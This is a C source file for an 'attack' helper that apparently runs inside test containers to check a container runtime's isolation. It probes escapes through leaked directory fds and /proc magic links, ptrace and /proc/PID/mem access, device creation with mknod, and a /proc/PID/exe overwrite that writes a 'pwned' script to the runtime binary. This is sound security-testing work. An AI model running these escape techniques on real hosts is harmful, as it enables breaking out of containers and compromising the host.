/* A static helper run inside test containers to perform attacks on the
 * runtime.  Every sub-command prints one JSON line to stdout.
 *
 *   attack fds MARKER            list the fds we got; try to reach the host
 *                                file MARKER (absolute host path) through
 *                                each directory fd and through /proc/self/fd
 *   attack cwd MARKER            is the cwd outside the container? (MARKER
 *                                reachable by walking ".." from the cwd)
 *   attack ptrace PID            PTRACE_ATTACH, /proc/PID/{environ,mem,exe,fd}
 *   attack exe-hold PID FILE     open /proc/PID/exe O_PATH, then poll until
 *                                FILE exists (in the container), then try to
 *                                reopen the exe for writing and write to it
 *   attack exe-write PID         try to open /proc/PID/exe O_WRONLY now
 *   attack open PATH rw|ro       open a path, report errno
 *   attack mknod-open PATH MAJ MIN  mknod a block device, open it
 *   attack wait FILE             sleep until FILE exists
 *   attack pidfds MARKER PID     like fds, through /proc/PID/fd (another
 *                                process of the container)
 *   attack keyring               the session keyring's id and description
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/keyctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void
sleep_ms (int ms)
{
  struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
  nanosleep (&ts, NULL);
}

/* walk up from dirfd and look for MARKER (absolute host path) */
static int
reaches_marker (int dirfd, const char *marker)
{
  char path[8192];
  int i, n = 0;
  path[0] = '\0';
  for (i = 0; i < 40; i++)
    n += snprintf (path + n, sizeof path - n, "../");
  snprintf (path + n, sizeof path - n, "%s", marker + 1);
  return faccessat (dirfd, path, F_OK, 0) == 0;
}

static int
cmd_fds (const char *marker, const char *dir)
{
  DIR *d = opendir (dir);
  struct dirent *de;
  int first = 1, escaped = 0;
  int self = strcmp (dir, "/proc/self/fd") == 0 && d ? dirfd (d) : -1;
  if (d == NULL)
    {
      printf ("{\"error\":%d}\n", errno);
      return 0;
    }
  printf ("{\"fds\":[");
  while ((de = readdir (d)))
    {
      char link[256], target[4096];
      ssize_t n;
      int fd;
      struct stat sb;
      if (de->d_name[0] == '.')
        continue;
      fd = atoi (de->d_name);
      if (fd == self)
        continue;
      snprintf (link, sizeof link, "%s/%d", dir, fd);
      n = readlink (link, target, sizeof target - 1);
      target[n < 0 ? 0 : n] = '\0';
      if (self >= 0 && fstat (fd, &sb) == 0 && S_ISDIR (sb.st_mode) && reaches_marker (fd, marker))
        escaped = 1;
      /* the magic link: open the dir it points to */
      {
        int o = open (link, O_PATH | O_DIRECTORY);
        if (o >= 0)
          {
            if (reaches_marker (o, marker))
              escaped = 1;
            close (o);
          }
      }
      printf ("%s{\"fd\":%d,\"target\":\"", first ? "" : ",", fd);
      for (char *c = target; *c; c++)
        if (*c == '"' || *c == '\\')
          printf ("\\%c", *c);
        else if ((unsigned char) *c >= 0x20)
          putchar (*c);
      printf ("\"}");
      first = 0;
    }
  printf ("],\"escaped\":%s}\n", escaped ? "true" : "false");
  closedir (d);
  return 0;
}

static int
cmd_cwd (const char *marker)
{
  char buf[4096];
  int fd = open (".", O_PATH | O_DIRECTORY);
  const char *cwd = getcwd (buf, sizeof buf);
  printf ("{\"cwd\":\"%s\",\"escaped\":%s}\n", cwd ? cwd : "(unreachable)",
          fd >= 0 && reaches_marker (fd, marker) ? "true" : "false");
  return 0;
}

static int
try_open (const char *path, int flags)
{
  int fd = open (path, flags);
  if (fd < 0)
    return errno;
  close (fd);
  return 0;
}

static int
cmd_ptrace (int pid)
{
  char p[64];
  int attach, e_environ, e_mem, e_exe, e_fd;
  long r = ptrace (PTRACE_ATTACH, pid, 0, 0);
  attach = r < 0 ? errno : 0;
  if (r == 0)
    {
      waitpid (pid, NULL, __WALL);
      ptrace (PTRACE_DETACH, pid, 0, 0);
    }
  snprintf (p, sizeof p, "/proc/%d/environ", pid);
  e_environ = try_open (p, O_RDONLY);
  snprintf (p, sizeof p, "/proc/%d/mem", pid);
  e_mem = try_open (p, O_RDONLY);
  snprintf (p, sizeof p, "/proc/%d/exe", pid);
  e_exe = try_open (p, O_PATH);
  snprintf (p, sizeof p, "/proc/%d/fd", pid);
  e_fd = try_open (p, O_RDONLY | O_DIRECTORY);
  if (e_fd == 0)
    {
      /* can list it: can we open what is behind the links? */
      DIR *d = opendir (p);
      struct dirent *de;
      while (d && (de = readdir (d)))
        {
          char l[512];
          if (de->d_name[0] == '.')
            continue;
          snprintf (l, sizeof l, "%s/%s", p, de->d_name);
          if (try_open (l, O_PATH) != 0)
            e_fd = EACCES;
        }
      if (d)
        closedir (d);
    }
  printf ("{\"attach\":%d,\"environ\":%d,\"mem\":%d,\"exe\":%d,\"fd\":%d}\n", attach, e_environ, e_mem, e_exe, e_fd);
  return 0;
}

static int
cmd_exe_write (int pid)
{
  char p[64];
  int e;
  snprintf (p, sizeof p, "/proc/%d/exe", pid);
  e = try_open (p, O_WRONLY);
  printf ("{\"open_wronly\":%d}\n", e);
  return 0;
}

static int
cmd_exe_hold (int pid, const char *go)
{
  char p[64];
  int fd, w, wrote = 0, e_open = 0, e_write = 0, tries;
  struct stat sb;
  snprintf (p, sizeof p, "/proc/%d/exe", pid);
  fd = open (p, O_PATH);
  if (fd < 0)
    {
      printf ("{\"hold\":%d}\n", errno);
      return 0;
    }
  /* tell the test we hold it */
  fprintf (stderr, "holding\n");
  while (stat (go, &sb) < 0)
    sleep_ms (20);
  snprintf (p, sizeof p, "/proc/self/fd/%d", fd);
  /* the runtime may still be executing the file for a moment (ETXTBSY) */
  for (tries = 0; tries < 200; tries++)
    {
      w = open (p, O_WRONLY);
      if (w >= 0 || errno != ETXTBSY)
        break;
      sleep_ms (25);
    }
  if (w < 0)
    e_open = errno;
  else
    {
      static const char evil[] = "#!/bin/sh\necho pwned\n";
      if (write (w, evil, sizeof evil - 1) == (ssize_t) sizeof evil - 1)
        wrote = 1;
      else
        e_write = errno;
      close (w);
    }
  printf ("{\"hold\":0,\"open_wronly\":%d,\"write\":%d,\"wrote\":%s}\n", e_open, e_write, wrote ? "true" : "false");
  return 0;
}

static int
cmd_open (const char *path, const char *mode)
{
  int e = try_open (path, strcmp (mode, "rw") == 0 ? O_RDWR : O_RDONLY);
  struct statfs sfs;
  long type = statfs (path, &sfs) == 0 ? (long) sfs.f_type : 0;
  printf ("{\"errno\":%d,\"fstype\":%ld}\n", e, type);
  return 0;
}

static int
cmd_mknod_open (const char *path, int maj, int min)
{
  int e_mknod = 0, e_open;
  if (mknod (path, S_IFBLK | 0600, makedev (maj, min)) < 0)
    e_mknod = errno;
  e_open = try_open (path, O_RDONLY);
  printf ("{\"mknod\":%d,\"open\":%d}\n", e_mknod, e_open);
  return 0;
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc >= 3 && strcmp (argv[1], "fds") == 0)
    return cmd_fds (argv[2], "/proc/self/fd");
  if (argc >= 4 && strcmp (argv[1], "pidfds") == 0)
    {
      char d[64];
      snprintf (d, sizeof d, "/proc/%s/fd", argv[3]);
      return cmd_fds (argv[2], d);
    }
  if (argc >= 2 && strcmp (argv[1], "keyring") == 0)
    {
      char desc[512] = "";
      long id = syscall (SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
      long n = id < 0 ? -1 : syscall (SYS_keyctl, KEYCTL_DESCRIBE, id, desc, sizeof desc - 1);
      if (n < 0)
        desc[0] = '\0';
      printf ("{\"id\":%ld,\"desc\":\"%s\"}\n", id, desc);
      return 0;
    }
  if (argc >= 3 && strcmp (argv[1], "cwd") == 0)
    return cmd_cwd (argv[2]);
  if (argc >= 3 && strcmp (argv[1], "ptrace") == 0)
    return cmd_ptrace (atoi (argv[2]));
  if (argc >= 3 && strcmp (argv[1], "exe-write") == 0)
    return cmd_exe_write (atoi (argv[2]));
  if (argc >= 4 && strcmp (argv[1], "exe-hold") == 0)
    return cmd_exe_hold (atoi (argv[2]), argv[3]);
  if (argc >= 4 && strcmp (argv[1], "open") == 0)
    return cmd_open (argv[2], argv[3]);
  if (argc >= 5 && strcmp (argv[1], "mknod-open") == 0)
    return cmd_mknod_open (argv[2], atoi (argv[3]), atoi (argv[4]));
  if (argc >= 3 && strcmp (argv[1], "wait") == 0)
    {
      struct stat sb;
      while (stat (argv[2], &sb) < 0)
        sleep_ms (20);
      return 0;
    }
  fprintf (stderr, "usage: attack fds|cwd|ptrace|exe-hold|exe-write|open|mknod-open|wait ...\n");
  return 2;
}
